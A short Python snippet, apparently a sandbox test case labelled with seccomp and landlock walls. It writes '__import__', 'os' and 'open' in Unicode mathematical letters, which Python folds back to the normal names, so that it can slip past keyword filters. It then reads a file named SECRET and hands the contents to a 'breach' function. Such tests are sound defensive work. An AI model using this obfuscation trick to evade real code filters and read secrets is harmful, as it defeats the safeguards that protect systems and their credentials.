"""Identifiers in mathematical letters that Python folds to open, os and __import__.

walls: seccomp landlock
"""

𝐨𝐬 = __𝒾𝓂𝓅𝑜𝓇𝓉__("os")
breach(𝓸𝓹𝓮𝓷(SECRET).𝘳𝘦𝘢𝘥())
